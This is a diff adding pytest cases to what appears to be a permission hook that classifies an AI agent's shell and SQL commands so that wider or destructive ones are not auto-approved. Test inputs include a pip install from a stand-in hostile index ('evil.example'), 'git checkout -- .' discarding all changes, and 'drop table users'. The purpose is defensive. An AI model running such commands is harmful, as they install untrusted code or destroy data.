@@ -245,3 +245,16 @@ def test_approvals_of_an_unknown_tool_never_promote_it(tmp_path: Path) -> None:
         assert decision(call(mcp | {"tool_use_id": f"t{n}"}, home)[1]) == "ask"
         call(mcp | {"tool_use_id": f"t{n}", "hook_event_name": "PostToolUse"}, home)
     assert decision(call(mcp | {"tool_use_id": "t9", "tool_input": {"sql": "drop table users"}}, home)[1]) == "ask"
+
+
+@pytest.mark.parametrize(("narrow", "other"), [
+    ("pip install requests", "pip install --index-url http://evil.example/simple requests"),
+    ("npm install left-pad", "npm install -g left-pad"),
+    ("git checkout -- src/a.py", "git checkout -- ."),
+])
+def test_a_wider_shape_is_a_kind_of_its_own(narrow: str, other: str) -> None:
+    assert kinds(narrow) and kinds(other) and set(kinds(narrow)).isdisjoint(kinds(other)), (kinds(narrow), kinds(other))
+
+
+def test_discarding_the_whole_tree_never_promotes() -> None:
+    assert all(destructive(k, DESTRUCTIVE_CATEGORIES) for k in kinds("git checkout -- ."))
